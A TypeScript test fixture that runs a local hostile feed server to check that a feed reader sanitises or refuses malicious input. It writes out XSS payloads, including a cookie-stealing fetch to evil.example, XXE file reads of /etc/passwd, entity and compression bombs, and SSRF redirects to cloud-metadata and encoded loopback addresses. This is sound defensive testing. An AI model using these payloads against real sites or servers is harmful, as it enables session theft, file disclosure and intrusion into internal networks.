// A hostile feed server for the security tests: node:http on 127.0.0.1 (port 0) only, every response bounded in
// bytes and time, and a lifetime after which it closes itself even if a test forgets to. Each case is a path with
// what a safe reader must do with it: store it inert, or fail that one feed with a clear message.
//
// Addresses in redirects never leave this machine: private and encoded-loopback targets point at the port of a
// second listener (the "bystander") that must never see a connection; 10.x and 169.254.x are refused before any
// connection is tried, and the tests use tiny timeouts so that a broken check fails fast instead of hanging.
import http from 'node:http';
import zlib from 'node:zlib';
import type { AddressInfo } from 'node:net';

export type Expectation =
  /** The poll succeeds and the items are stored; after sanitising, nothing in them can run, load or submit. */
  | { kind: 'inert'; items: number }
  /** The feed fails with a message that matches. */
  | { kind: 'error'; message: RegExp }
  /** Either a clear per-feed error or stored items; never a crash, a hang or another feed harmed. */
  | { kind: 'error-or-stored' };

export interface HostileCase {
  name: string;
  path: string;
  expect: Expectation;
  /** For the refused-address cases: no connection may reach the bystander. */
  blocked?: boolean;
}

export interface HostileServer {
  origin: string;
  port: number;
  /** A second listener on 127.0.0.1: a redirect or a link to it must be refused before connecting. */
  bystanderPort: number;
  /** Connections the bystander has accepted: must stay 0. */
  bystanderConnections: () => number;
  url: (path: string) => string;
  cases: HostileCase[];
  /** Paths requested, in order. */
  requests: string[];
  close: () => Promise<void>;
}

export interface HostileOptions {
  /** A file whose contents must never appear in the library (XXE target). */
  canaryFile: string;
  /** The server closes itself after this long, whatever the tests do. */
  lifetimeMs?: number;
  /** Items in the big feed. */
  bigFeedItems?: number;
}

// Hard ceilings of this server, whatever a case asks for.
const MAX_RESPONSE_BYTES = 64 * 1024 * 1024;
const MAX_RESPONSE_MS = 60_000;
const TRICKLE_BYTES = 40;

/** Article links that a full-text fetch must refuse (ports filled in with the bystander's). */
export const PRIVATE_LINKS = ['http://127.0.0.1:PORT/page', 'http://localhost:PORT/page', 'http://[::1]:PORT/page', 'http://169.254.169.254/latest/meta-data/', 'http://10.1.2.3/page', 'http://0x7f.1:PORT/page'];

const xmlEscape = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');

/** An RSS 2.0 feed of two items carrying `payload`: escaped in the description, raw in a CDATA content:encoded. */
function payloadFeed(name: string, payload: string, extraItem = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel>
<title>${xmlEscape(`Hostile: ${name}`)}</title><link>https://hostile.example/</link><description>hostile</description>
<item><guid isPermaLink="false">${name}-1</guid><title>${xmlEscape(`${payload} headline one`)}</title><link>https://hostile.example/${name}/1</link>
<description>${xmlEscape(`<p>Before</p>${payload}<p>After</p>`)}</description><pubDate>Tue, 24 Nov 2026 10:00:00 GMT</pubDate></item>
<item><guid isPermaLink="false">${name}-2</guid><title>Headline two</title><link>https://hostile.example/${name}/2</link>
<content:encoded><![CDATA[<div>${payload.replaceAll(']]>', ']]&gt;')}</div>]]></content:encoded><pubDate>Tue, 24 Nov 2026 11:00:00 GMT</pubDate></item>
${extraItem}</channel></rss>`;
}

/** The markup payloads: each must be stored, and be inert once sanitised. */
const markupPayloads: Record<string, string> = {
  'script-tag': '<script>window.pwned = 1; fetch("https://evil.example/?c=" + document.cookie)</script><SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  'event-handlers': '<img src="x" onerror="alert(1)"><body onload="alert(2)"><div onmouseover="alert(3)">hover</div><a href="https://ok.example/" onclick="alert(4)">ok</a>',
  'javascript-links': '<a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(2)">b</a><a href="&#106;avascript:alert(3)">c</a><a href=" javascript:alert(4)">d</a><a href="java\tscript:alert(5)">e</a>',
  'data-links': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">a</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
  'svg-payloads': '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a><foreignObject><iframe src="javascript:alert(4)"></iframe></foreignObject><animate attributeName="href" to="javascript:alert(5)"/></svg>',
  'css-payloads': '<style>body{background:url("javascript:alert(1)")} *{display:none}</style><div style="background-image:url(javascript:alert(2));width:expression(alert(3))">styled</div><link rel="stylesheet" href="https://evil.example/x.css">',
  'meta-refresh': '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'iframes': '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe><frameset><frame src="https://evil.example/"></frameset>',
  'forms': '<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button formaction="javascript:alert(1)">Log in</button><textarea>x</textarea></form>',
  'object-embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf"><applet code="x"></applet>',
  'base-and-link': '<base href="javascript:alert(1)//"><a href="/relative">relative</a><link rel="import" href="https://evil.example/x.html">',
  'mutation-xss': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><math><mtext><table><mglyph><style><img src=x onerror=alert(2)></style></mglyph></table></mtext></math>',
  'template-and-dom-clobbering': '<template><img src=x onerror=alert(1)></template><form id="footnote"><input name="api"></form><img name="getElementById" src="x"><a id="__proto__" href="https://ok.example/">x</a>',
};

function cases(bystander: number, bigItems: number): HostileCase[] {
  const refused = /network address|Footnote only fetches from the public internet/;
  const list: HostileCase[] = [];
  for (const name of Object.keys(markupPayloads)) list.push({ name, path: `/markup/${name}`, expect: { kind: 'inert', items: 2 } });
  list.push(
    { name: 'markup in titles (CDATA)', path: '/markup-title', expect: { kind: 'inert', items: 1 } },
    { name: 'item link javascript:', path: '/item-link-javascript', expect: { kind: 'inert', items: 1 } },
    { name: 'article links to private addresses', path: '/private-links', expect: { kind: 'inert', items: PRIVATE_LINKS.length } },
    { name: 'XXE reading /etc/passwd', path: '/xxe-passwd', expect: { kind: 'error-or-stored' } },
    { name: 'XXE reading the canary file', path: '/xxe-canary', expect: { kind: 'error-or-stored' } },
    { name: 'XXE external DTD and parameter entities', path: '/xxe-external-dtd', expect: { kind: 'error-or-stored' }, blocked: true },
    { name: 'billion laughs', path: '/billion-laughs', expect: { kind: 'error-or-stored' } },
    { name: 'quadratic entity blow-up', path: '/quadratic-blowup', expect: { kind: 'error-or-stored' } },
    { name: 'body over the cap (chunked)', path: '/over-cap-chunked', expect: { kind: 'error', message: /larger than/ } },
    { name: 'body over the cap (Content-Length)', path: '/over-cap-declared', expect: { kind: 'error', message: /larger than/ } },
    { name: 'gzip bomb', path: '/gzip-bomb', expect: { kind: 'error', message: /larger than/ } },
    { name: 'brotli bomb', path: '/brotli-bomb', expect: { kind: 'error', message: /larger than/ } },
    { name: '1 byte per second trickle', path: '/trickle', expect: { kind: 'error', message: /did not finish sending|stopped sending|did not answer/ } },
    { name: 'headers never sent', path: '/silent', expect: { kind: 'error', message: /did not answer/ } },
    { name: 'redirect loop', path: '/loop', expect: { kind: 'error', message: /Too many redirects/ } },
    { name: 'redirect chain of 6', path: '/chain/0', expect: { kind: 'error', message: /Too many redirects/ } },
    { name: 'redirect to ftp:', path: '/to-ftp', expect: { kind: 'error', message: /ftp:.*only fetches http and https/ } },
    { name: 'redirect to file:', path: '/to-file', expect: { kind: 'error', message: /file:.*only fetches http and https/ } },
    { name: 'redirect to javascript:', path: '/to-javascript', expect: { kind: 'error', message: /javascript:.*only fetches http and https/ } },
    { name: 'redirect to data:', path: '/to-data', expect: { kind: 'error', message: /data:.*only fetches http and https/ } },
  );
  const privateTargets: [string, string][] = [
    ['127.0.0.1 on another port', `http://127.0.0.1:${bystander}/feed`],
    ['localhost on another port', `http://localhost:${bystander}/feed`],
    ['0.0.0.0', `http://0.0.0.0:${bystander}/feed`],
    ['[::1]', `http://[::1]:${bystander}/feed`],
    ['169.254.169.254 (cloud metadata)', 'http://169.254.169.254/latest/meta-data/'],
    ['10.0.0.1', 'http://10.0.0.1/feed'],
    ['192.168.1.1', 'http://192.168.1.1/feed'],
    ['decimal 2130706433', `http://2130706433:${bystander}/feed`],
    ['hex 0x7f000001', `http://0x7f000001:${bystander}/feed`],
    ['octal 017700000001', `http://017700000001:${bystander}/feed`],
    ['[::ffff:127.0.0.1]', `http://[::ffff:127.0.0.1]:${bystander}/feed`],
    ['127.1', `http://127.1:${bystander}/feed`],
    ['[::] (unspecified v6)', `http://[::]:${bystander}/feed`],
  ];
  privateTargets.forEach(([label, target], i) => list.push({ name: `redirect to ${label}`, path: `/to-private/${i}?to=${encodeURIComponent(target)}`, expect: { kind: 'error', message: refused }, blocked: true }));
  list.push(
    { name: '100,000-level nesting (XML)', path: '/nesting-xml', expect: { kind: 'error-or-stored' } },
    { name: '100,000-level nesting (HTML in content)', path: '/nesting-html', expect: { kind: 'inert', items: 2 } },
    { name: '100,000-level nesting (JSON Feed)', path: '/nesting-json', expect: { kind: 'error-or-stored' } },
    { name: 'lone surrogates and control characters (XML)', path: '/control-chars-xml', expect: { kind: 'error-or-stored' } },
    { name: 'lone surrogates (JSON Feed)', path: '/surrogates-json', expect: { kind: 'error-or-stored' } },
    { name: `${bigItems}-item feed`, path: '/big', expect: { kind: 'error-or-stored' } },
    { name: 'duplicate guids', path: '/duplicate-guids', expect: { kind: 'error-or-stored' } },
    { name: 'not a feed (an HTML page)', path: '/not-a-feed', expect: { kind: 'error', message: /./ } },
    { name: 'empty body', path: '/empty', expect: { kind: 'error', message: /./ } },
    { name: '200 with a huge header', path: '/huge-header', expect: { kind: 'error', message: /./ } },
    { name: 'status 200 with a lying Content-Encoding', path: '/bad-gzip', expect: { kind: 'error', message: /compressed|damaged/ } },
  );
  return list;
}

function entityFeed(doctype: string, titleRef: string): string {
  return `<?xml version="1.0"?>\n${doctype}\n<rss version="2.0"><channel><title>Entities</title><link>https://hostile.example/</link><description>d</description>
<item><guid isPermaLink="false">ent-1</guid><title>Entity ${titleRef}</title><link>https://hostile.example/e/1</link><description>text ${titleRef}</description></item></channel></rss>`;
}

function bigFeed(items: number): Generator<string> {
  return (function* () {
    yield '<?xml version="1.0"?><rss version="2.0"><channel><title>Big</title><link>https://big.example/</link><description>d</description>\n';
    for (let i = 0; i < items; i++) {
      yield `<item><guid isPermaLink="false">big-${i}</guid><title>Big story ${i}</title><link>https://big.example/${i}</link><description>Item ${i} of a very long feed.</description></item>\n`;
    }
    yield '</channel></rss>';
  })();
}

/** Sends the pieces with back-pressure, stopping at the server's byte ceiling or when the client goes away. */
function stream(res: http.ServerResponse, pieces: Iterable<string | Buffer>): void {
  const it = pieces[Symbol.iterator]();
  let sent = 0;
  const pump = (): void => {
    while (!res.destroyed) {
      const next = it.next();
      if (next.done || sent > MAX_RESPONSE_BYTES) {
        res.end();
        return;
      }
      sent += next.value.length;
      if (!res.write(next.value)) {
        res.once('drain', pump);
        return;
      }
    }
  };
  pump();
}

function* repeat(chunk: Buffer, times: number): Generator<Buffer> {
  for (let i = 0; i < times; i++) yield chunk;
}

export async function startHostileServer(opts: HostileOptions): Promise<HostileServer> {
  const bigItems = opts.bigFeedItems ?? 50_000;
  const requests: string[] = [];
  let bystanderConnections = 0;
  const bystander = http.createServer((_req, res) => res.end('<rss version="2.0"><channel><title>bystander</title></channel></rss>'));
  bystander.on('connection', () => bystanderConnections++);
  await new Promise<void>((resolve) => bystander.listen(0, '127.0.0.1', resolve));
  const bystanderPort = (bystander.address() as AddressInfo).port;

  let bomb: { gzip: Buffer; br: Buffer } | undefined;
  const bombs = (): { gzip: Buffer; br: Buffer } => {
    // 64 MB of zeros squeezes to about 64 KB (gzip) and 50 bytes (brotli).
    const zeros = Buffer.alloc(64 * 1024 * 1024);
    return (bomb ??= { gzip: zlib.gzipSync(zeros, { level: 9 }), br: zlib.brotliCompressSync(zeros) });
  };
  const rss = 'application/rss+xml; charset=utf-8';

  const server = http.createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    requests.push(url.pathname + url.search);
    res.setTimeout(MAX_RESPONSE_MS, () => res.destroy());
    const send = (body: string | Buffer, type = rss, headers: Record<string, string> = {}): void => {
      res.writeHead(200, { 'content-type': type, ...headers }).end(body);
    };
    const redirect = (location: string, status = 302): void => {
      res.writeHead(status, { location }).end();
    };
    const p = url.pathname;
    if (p.startsWith('/markup/')) {
      const payload = markupPayloads[p.slice('/markup/'.length)];
      if (payload) return send(payloadFeed(p.slice(8), payload));
    }
    switch (p) {
      case '/good': return send(payloadFeed('good', '<p>An ordinary story.</p>'));
      case '/good-2': return send(payloadFeed('good-2', '<p>Another ordinary story.</p>'));
      case '/markup-title':
        return send(`<?xml version="1.0"?><rss version="2.0"><channel><title><![CDATA[<script>alert(1)</script><img src=x onerror=alert(2)>Channel]]></title><link>https://hostile.example/</link><description>d</description>
<item><guid isPermaLink="false">t-1</guid><title><![CDATA[<iframe src="javascript:alert(1)"></iframe><form action="https://evil.example/"><input></form>Title]]></title><link>https://hostile.example/t/1</link><description>&lt;b&gt;ok&lt;/b&gt;</description></item></channel></rss>`);
      case '/item-link-javascript':
        return send(`<?xml version="1.0"?><rss version="2.0"><channel><title>Links</title><link>javascript:alert(1)</link><description>d</description>
<item><guid isPermaLink="false">l-1</guid><title>Link</title><link>javascript:alert(document.domain)</link><comments>javascript:alert(2)</comments><description>x</description></item></channel></rss>`);
      case '/private-links': {
        const items = PRIVATE_LINKS.map((l, i) => `<item><guid isPermaLink="false">p-${i}</guid><title>Private ${i}</title><link>${xmlEscape(l.replace('PORT', String(bystanderPort)))}</link><description>short</description></item>`).join('');
        return send(`<?xml version="1.0"?><rss version="2.0"><channel><title>Private links</title><link>https://hostile.example/</link><description>d</description>${items}</channel></rss>`);
      }
      case '/xxe-passwd':
        return send(entityFeed('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'));
      case '/xxe-canary':
        return send(entityFeed(`<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://${opts.canaryFile}">]>`, '&xxe;'));
      case '/xxe-external-dtd':
        return send(entityFeed(`<!DOCTYPE rss SYSTEM "http://127.0.0.1:${bystanderPort}/evil.dtd" [<!ENTITY % remote SYSTEM "http://127.0.0.1:${bystanderPort}/param.dtd"> %remote;]>`, 'plain'));
      case '/billion-laughs': {
        const levels = ['<!ENTITY lol0 "lol">'];
        for (let i = 1; i < 10; i++) levels.push(`<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`);
        return send(entityFeed(`<!DOCTYPE rss [${levels.join('')}]>`, '&lol9;'));
      }
      case '/quadratic-blowup': {
        const big = 'A'.repeat(50_000);
        return send(entityFeed(`<!DOCTYPE rss [<!ENTITY a "${big}">]>`, '&a;'.repeat(20_000)));
      }
      case '/over-cap-chunked':
        res.writeHead(200, { 'content-type': rss });
        return stream(res, repeat(Buffer.alloc(64 * 1024, 0x20), 320)); // 20 MB, no Content-Length
      case '/over-cap-declared':
        res.writeHead(200, { 'content-type': rss, 'content-length': String(2 * 1024 * 1024 * 1024) });
        return stream(res, repeat(Buffer.alloc(64 * 1024, 0x20), 4));
      case '/gzip-bomb':
        return send(bombs().gzip, rss, { 'content-encoding': 'gzip' });
      case '/brotli-bomb':
        return send(bombs().br, rss, { 'content-encoding': 'br' });
      case '/bad-gzip':
        return send('<rss>this is not gzip at all</rss>', rss, { 'content-encoding': 'gzip' });
      case '/trickle': {
        res.writeHead(200, { 'content-type': rss });
        let sent = 0;
        const timer = setInterval(() => {
          if (res.destroyed || sent >= TRICKLE_BYTES) {
            clearInterval(timer);
            res.end();
            return;
          }
          res.write('<rss version="2.0">'.charAt(sent % 19));
          sent++;
        }, 1000);
        res.on('close', () => clearInterval(timer));
        return;
      }
      case '/silent':
        return; // res.setTimeout above ends it
      case '/loop': return redirect('/loop');
      case '/to-ftp': return redirect('ftp://127.0.0.1/feed.xml');
      case '/to-file': return redirect('file:///etc/passwd');
      case '/to-javascript': return redirect('javascript:alert(1)');
      case '/to-data': return redirect('data:application/rss+xml,<rss/>');
      case '/nesting-xml':
        return send(`<?xml version="1.0"?><rss version="2.0"><channel><title>Deep</title><item><title>deep</title><description>${'<div>'.repeat(100_000)}x${'</div>'.repeat(100_000)}</description></item></channel></rss>`);
      case '/nesting-html':
        return send(payloadFeed('nesting-html', `${'<div>'.repeat(100_000)}deep text${'</div>'.repeat(100_000)}<img src=x onerror=alert(1)>`));
      case '/nesting-json':
        return send(`{"version":"https://jsonfeed.org/version/1.1","title":"Deep","items":[{"id":"1","content_html":"x","extra":${'['.repeat(100_000)}${']'.repeat(100_000)}}]}`, 'application/feed+json');
      case '/control-chars-xml':
        return send(Buffer.concat([Buffer.from('<?xml version="1.0"?><rss version="2.0"><channel><title>Ctl\u0001\u001b[31m</title><link>https://hostile.example/</link><description>d</description><item><guid isPermaLink="false">c-1</guid><title>Bad &#xD800; &#0; \u0007 \ufffe'), Buffer.from([0xed, 0xa0, 0x80, 0xc0, 0xaf, 0xff]), Buffer.from(' end</title><link>https://hostile.example/c/1</link><description>&#x1F600; \u0000 text</description></item></channel></rss>')]));
      case '/surrogates-json':
        return send('{"version":"https://jsonfeed.org/version/1.1","title":"Sur\\ud800rogates","items":[{"id":"s-1","title":"Lone \\udc00 low \\ud83d high","url":"https://hostile.example/s/1","content_html":"<p>\\u0000\\u0001\\u001b \\ud800</p>"}]}', 'application/feed+json');
      case '/big':
        res.writeHead(200, { 'content-type': rss });
        return stream(res, bigFeed(bigItems));
      case '/duplicate-guids': {
        const items = Array.from({ length: 6 }, (_, i) => `<item><guid isPermaLink="false">same-guid</guid><title>Copy ${i}</title><link>https://hostile.example/d/${i}</link><description>version ${i}</description></item>`).join('');
        return send(`<?xml version="1.0"?><rss version="2.0"><channel><title>Dupes</title><link>https://hostile.example/</link><description>d</description>${items}</channel></rss>`);
      }
      case '/not-a-feed':
        return send('<!doctype html><html><head><title>Just a page</title></head><body><p>No feed here.</p></body></html>', 'text/html; charset=utf-8');
      case '/empty':
        return send('', rss);
      case '/huge-header':
        res.writeHead(200, { 'content-type': rss, 'x-padding': 'a'.repeat(1024 * 1024) });
        return res.end(payloadFeed('huge-header', '<p>x</p>'));
    }
    if (p.startsWith('/chain/')) {
      const n = Number(p.slice(7));
      return n < 6 ? redirect(`/chain/${n + 1}`, 301) : send(payloadFeed('chain', '<p>end</p>'));
    }
    if (p.startsWith('/to-private/')) return redirect(url.searchParams.get('to') ?? '/');
    res.writeHead(404, { 'content-type': 'text/plain' }).end('not found');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const port = (server.address() as AddressInfo).port;
  const origin = `http://127.0.0.1:${port}`;

  let closed: Promise<void> | undefined;
  const close = (): Promise<void> => (closed ??= Promise.all([server, bystander].map((s) => new Promise<void>((resolve) => {
    s.closeAllConnections();
    s.close(() => resolve());
  }))).then(() => undefined));
  // The server's own end: whatever a test forgets, nothing outlives this.
  setTimeout(() => void close(), opts.lifetimeMs ?? 10 * 60_000).unref();

  return {
    origin,
    port,
    bystanderPort,
    bystanderConnections: () => bystanderConnections,
    url: (path) => `${origin}${path}`,
    cases: cases(bystanderPort, bigItems),
    requests,
    close,
  };
}
